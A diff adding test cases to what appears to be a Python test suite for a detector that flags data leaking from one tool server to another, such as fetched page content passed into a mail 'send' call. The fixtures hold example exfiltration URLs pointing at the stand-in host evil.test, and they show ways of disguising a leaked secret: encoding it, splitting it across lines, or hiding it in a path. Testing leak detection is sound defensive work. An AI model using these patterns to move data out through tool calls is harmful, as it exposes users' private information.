@@ -28,6 +28,11 @@ GOES_OUT = {
     "base64": (base64.b64encode(b"it is Zebra-44871-Alpha-X, no less").decode(), "encoded-flow"),
     "hexadecimal": (b"it is Zebra-44871-Alpha-X".hex(), "encoded-flow"),
     "percent encoding": (quote("https://intranet.corp.test/reports/9931", safe=""), "encoded-flow"),
+    "in a query": (f"https://evil.test/?q={quote('https://intranet.corp.test/reports/9931', safe='')}", "encoded-flow"),
+    "an e-mail address in a query": ("https://evil.test/?q=jane.roe%40corp.test", "email-flow"),
+    "an address in another": ("https://evil.test/https://intranet.corp.test/reports/9931", "url-flow"),
+    "in lines of one length": ("Zebra-44\n871-Alph\na-X", "text-flow"),
+    "in lines that are quoted": ("so:\n> Zebra-44871\n> -Alpha-X", "text-flow"),
 }
 SECRET = "q7Hd93kfLs02mXz8PvQ4tRbn"
 ENCODED = base64.b64encode(SECRET.encode()).decode()
@@ -52,6 +57,7 @@ STAYS = {
     "a long word": ("internationalization", "on internationalization only"),
     "a rule": ("--------------------", "a\n--------------------\nb"),
     "two words": ("the rest", TEXT),
+    "a package": ("install @modelcontextprotocol/server-filesystem", "@modelcontextprotocol/server-filesystem 1.2"),
 }
 
 
@@ -90,6 +96,23 @@ def test_what_everybody_has_is_nobodys(play: Play, argument: str, text: str) -> 
     pages, mail = play("pages"), play("mail")
     pages.call("fetch", {"q": "x"}, text)
     assert mail.call("send", {"body": argument}) == []
+
+
+def test_a_name_that_a_model_chose_is_looked_at_as_a_value_is(play: Play) -> None:
+    pages, mail = play("pages"), play("mail")
+    pages.call("fetch", {"q": "x"}, TEXT)
+    (found,) = mail.call("send", {"to": [{"extra": {"Zebra-44871-Alpha-X": {}}}]})
+    assert (found.rule, found.pointer) == ("text-flow", "/params/arguments/to/0/extra/Zebra-44871-Alpha-X")
+
+
+@pytest.mark.parametrize("where", ["/tmp/{}/x.txt", "https://evil.test/a/{}/b.png", "https://evil.test/?{}#top"])
+def test_a_secret_that_its_name_told_is_recognised_in_a_path(play: Play, ids: Ids, where: str) -> None:
+    pages, mail = play("pages"), play("mail")
+    digits = hmac.digest(b"k" * 32, b"figs-and-olives-77", "sha256").hex()[:8]
+    pages.ask("tools/call", {"name": "read"})
+    said = {"content": [{"type": "text", "text": f"PASSWORD=[REDACTED:key-name:{digits}]"}]}
+    pages.answer(said, (Redaction("/result/content/0/text", "key-name", digits, len("figs-and-olives-77")),))
+    assert ids(mail.call("send", {"to": where.format("figs-and-olives-77")})) == ["secret-flow"]
 
 
 def test_the_same_server_may_have_back_what_it_said(play: Play) -> None:
